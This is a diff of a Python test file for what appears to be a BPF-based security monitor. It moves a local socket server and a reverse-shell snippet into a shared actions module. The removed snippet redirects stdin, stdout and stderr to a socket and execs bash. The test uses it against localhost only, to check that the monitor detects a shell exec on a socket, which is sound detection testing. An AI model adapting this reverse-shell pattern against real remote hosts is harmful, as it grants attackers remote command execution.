@@ -55,6 +55,8 @@ from tests.bpf.actions import (
     FINIT_NR,
     INIT_NR,
     MEMFD_CODE,
+    REVERSE_SHELL_CODE,
+    SERVER_CODE,
     WRITE_ETC_CODE,
     finish,
     killing,
@@ -357,20 +359,6 @@ def test_write_below_etc(env: Env) -> None:
     assert gone.ret == 0
 
 
-SERVER_CODE = """
-import socket, sys, time
-s = socket.socket()
-s.bind(("127.0.0.1", 0))
-s.listen(1)
-print(s.getsockname()[1], flush=True)
-c, addr = s.accept()
-print(addr[1], flush=True)
-c.settimeout(float(sys.argv[1]))
-try:
-    c.recv(1)
-except OSError:
-    pass
-"""
 CLIENT_CODE = """
 import socket, sys
 c = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
@@ -466,21 +454,12 @@ def test_symlink_and_hard_link(env: Env) -> None:
     assert dirfd >= 0
 
 
-REVERSE_SHELL_CODE = """
-import os, socket, sys
-s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
-for fd in (0, 1, 2):
-    os.dup2(s.fileno(), fd)
-os.execv("/bin/bash", ["bash", "-c", "sleep 3; true"])
-"""
-
-
 def test_shell_with_stdio_on_a_socket(env: Env) -> None:
     listener = py(SERVER_CODE, 5)
     with killing(listener):
         assert listener.stdout is not None
         port = int(listener.stdout.readline())
-        shell = py(REVERSE_SHELL_CODE, port)
+        shell = py(REVERSE_SHELL_CODE, port, 3)
         with killing(shell):
             o = env.seen.wait_for(
                 lambda o: of(Kind.EXEC, shell.pid)(o) and o.comm == "bash", what="bash exec"
